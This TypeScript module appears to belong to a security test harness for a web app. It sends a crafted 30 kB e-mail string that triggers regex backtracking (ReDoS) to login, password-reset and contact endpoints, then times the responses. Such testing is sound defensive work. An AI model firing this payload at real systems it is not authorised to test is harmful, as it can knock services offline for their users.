import { ask } from './ask.ts';
import { ATTACKER, type Attack } from './attack.ts';
import { inTurn } from './open-loop.ts';
import { tally } from './series.ts';

/**
 * Some seconds for a pattern that is quadratic, nothing for one that is not; 1 MiB would take an hour. Dots alone
 * match a lenient pattern at once: the second @ is what makes it try every split.
 */
const HOSTILE = `a@${'.'.repeat(30_000)}@`;
const EVERY_MS = 2000;

export const emailPattern: Attack = {
  title: 'hostile e-mail of 30 kB, 4 requests',
  prepare: async (url) => {
    const message = { name: 'Pessoa', email: HOSTILE, message: 'Olá' };
    const post = (path: string, body: object) => () => ask(url + path, { body, from: ATTACKER });
    const requests = [
      post('/api/auth/login', { email: HOSTILE, password: 'x' }),
      post('/api/auth/forgot-password', { email: HOSTILE }),
      post('/api/contact', message),
      () =>
        ask(`${url}/contato`, {
          body: new URLSearchParams(message).toString(),
          headers: { origin: url, 'sec-fetch-site': 'same-origin' },
          from: ATTACKER,
        }),
    ];
    return async () => {
      const answers = await inTurn(requests.length, EVERY_MS, (n) => (requests[n] ?? post('/', {}))());
      const slowest = Math.max(...answers.map(({ ms }) => ms));
      return { answers: tally(answers), 'slowest ms': Math.round(slowest) };
    };
  },
};
